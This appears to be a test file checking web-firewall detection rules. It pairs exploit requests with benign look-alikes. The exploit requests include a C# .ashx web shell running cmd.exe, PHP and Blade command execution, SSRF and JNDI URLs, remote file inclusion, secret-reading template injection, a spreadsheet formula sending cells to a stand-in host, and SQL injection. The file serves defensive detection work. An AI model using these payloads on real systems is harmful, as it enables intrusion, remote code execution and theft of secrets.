/**
 * Bundled rules of rev 2026-12-07w (issue 18, session 22): mechanisms held-out-15's misses showed after its blind
 * measurement, written for the class of exploit rather than the product. Each fires on its attack, sent the way such an
 * exploit sends it, and stays quiet on the benign request closest to it (a PUT override, Solr replication details, an
 * image path given a CDN URL, an image proxy fetching a public picture, a JMX service URL, an uploaded C# source file,
 * a web.config in a zip of a project, a multi-line form value, a Blade @php block assigning a variable, a template
 * printing the app name, a spreadsheet formula over cells, a file read through a variable).
 */
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { BROWSER, form, json, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, postForm } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const upload = (name: string, content: string): RequestSpec => {
  const b = '----WebKitFormBoundaryQ3v8Lm2Zr5Tx9Wc1';
  const body = `--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${content}\r\n--${b}\r\nContent-Disposition: form-data; name="submit"\r\n\r\nUpload\r\n--${b}--\r\n`;
  return { method: 'POST', url: '/Upload.aspx', headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${b}`]], body };
};

const ASHX = '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Diagnostics;\npublic class H : System.Web.IHttpHandler {\n  public void ProcessRequest(System.Web.HttpContext c) {\n    var i = new ProcessStartInfo("cmd.exe", "/c " + c.Request["x"]) { UseShellExecute = false };\n    Process.Start(i);\n  }\n  public bool IsReusable { get { return false; } }\n}';
const WEB_CONFIG = '<?xml version="1.0"?>\n<configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="x" path="*.jpg" verb="*" type="System.Web.UI.PageHandlerFactory" /></handlers><security><requestFiltering><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security></system.webServer></configuration>';

const CASES: RuleCase[] = [
  [9001368, 'block', 'a method override to __construct with filter[]=system', postForm('/index.php?s=captcha', '_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id'), postForm('/posts/12', '_method=PUT&title=Hello&body=__construct+is+PHP%27s+constructor')],
  [9001560, 'block', 'Solr fetchindex from a masterUrl', get('/solr/products/replication?command=fetchindex&masterUrl=https%3A%2F%2Fmirror.example.net%2Fsolr%2Fx'), get('/solr/products/replication?command=details&wt=json')],
  [9000563, 'block', 'an abspath given a remote URL', get('/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php?abspath=http%3A%2F%2Fdl.example.net%2Fx%2F'), get('/gallery?image_path=https%3A%2F%2Fcdn.example.com%2Fa.jpg&base_url=https%3A%2F%2Fshop.example.com%2F')],
  [9000564, 'block', "a proxy servlet sent to the admin port on loopback", { method: 'POST', url: '/service/proxy?target=https://127.0.0.1:7071/service/admin/soap', headers: [...BROWSER, ['Content-Type', 'application/soap+xml']], body: '<soap:Envelope/>' }, get('/proxy/image?url=https%3A%2F%2Fimages.example.com%2Fcat.jpg')],
  [9000564, 'block', 'an image proxy sent to a private address', get('/api/proxy?url=http%3A%2F%2F10.0.3.7%2F'), get('/proxy?url=http%3A%2F%2Fwww.example.org%2F10.0.3.7')],
  [9000564, 'block', "a proxy sent to localhost's admin SOAP service", get('/service/proxy?target=http%3A%2F%2Flocalhost%3A8080%2Fservice%2Fadmin%2Fsoap'), get('/proxy/image?url=http%3A%2F%2Flocalhost%3A3000%2Fcallback&format=json&maxwidth=480')],
  [9000860, 'block', 'an RMI naming URL as a JSON argument', json('{"methodInput":[["rmi://203.0.113.9:1099/Exploit"]]}'), json('{"jmxUrl":"service:jmx:rmi:///jndi/rmi://monitor.internal:9999/jmxrmi"}')],
  [9001369, 'block', 'an uploaded .ashx starting cmd.exe', upload('report.ashx', ASHX), upload('Program.cs', 'using System.Diagnostics;\nclass P { static void Main() { Process.Start("notepad.exe"); } }')],
  [9001370, 'block', 'an uploaded web.config mapping .jpg to ASP.NET', upload('web.config', WEB_CONFIG), upload('web.config', '<?xml version="1.0"?>\n<configuration><appSettings><add key="Theme" value="dark" /></appSettings></configuration>')],
  [9001264, 'block', 'every reserved byte of the value percent-encoded, upper-case hex (rev 2)', postForm('/getcfg.php', 'SERVICES=DEVICE.ACCOUNT%0AAUTHORIZED_GROUP%3D1'), postForm('/contact', 'name=Ann&message=Line%20one%0D%0ASECOND%20LINE%3D%20two&notes=done%0D%0ASee%20you')],
  [9001264, 'block', 'a config variable after an encoded line break', postForm('/getcfg.php', 'SERVICES=DEVICE.ACCOUNT%0aAUTHORIZED_GROUP=1'), postForm('/contact', 'name=Ann&message=Line+one%0ASECOND+LINE%3D+two&env=PATH%3D%2Fusr%2Fbin%0AHOME%3D%2Froot')],
  [9000761, 'block', 'a Blade @php passthru', form('subject=Hi&body=%3Cp%3EHello%3C%2Fp%3E%40php(passthru(%27id%27))'), form('subject=Hi&body=%40php+%24total+%3D+0%3B+%40endphp+%7B%7B+%24total+%7D%7D+follow+%40phpc+on+X')],
  [9000762, 'block', 'a template echo of base_path .env', json('{"body":"<p>Hi</p>{{ file_get_contents(base_path(\'.env\')) }}"}'), json('{"body":"<footer>{{ config(\'app.name\') }} - {{ env(\'APP_URL\') }}</footer>"}')],
  [9000762, 'block', 'a template echo of a config secret', json('{"body":"{{ config(\'services.stripe.secret\') }}"}'), json('{"body":"Set config(\'services.stripe.secret\') in config/services.php"}')],
  [9001371, 'block', 'a WEBSERVICE formula sending two cells', form('name=Ann&notes=%3DWEBSERVICE(%22https%3A%2F%2Fx.example.net%2Fz%3Fx%3D%22%26ENCODEURL(A2%26B2))'), form('name=Ann&notes=%3DHYPERLINK(%22https%3A%2F%2Fwww.example.com%2Forders%22%2C%22Orders%22)+and+%3DSUM(A2%3AB2)')],
  [9001372, 'block', 'a report helper reading a server file through require(fs)', json('{"template":{"engine":"handlebars","helpers":"function f() { return require(\'fs\').readFileSync(\'/app/jsreport.config.json\', \'utf8\') }"}}'), json('{"snippet":"const data = require(\'fs\').readFileSync(configPath, \'utf8\')"}')],
  [9000162, 'block', 'a Trunc kind concatenating its own SELECT', get("/api/reports/sales?kind=month%27%2C%20created%29%20%7C%7C%20%28SELECT%20version%28%29%29%20%7C%7C%20date_trunc%28%27day&from=2025-01-01"), get("/search?q=it%27s+a+%7C%7C+%28select+all%29+toggle&page=2")],
];

describe("bundled rules for held-out-15's exploit mechanisms (rev 2026-12-07w)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
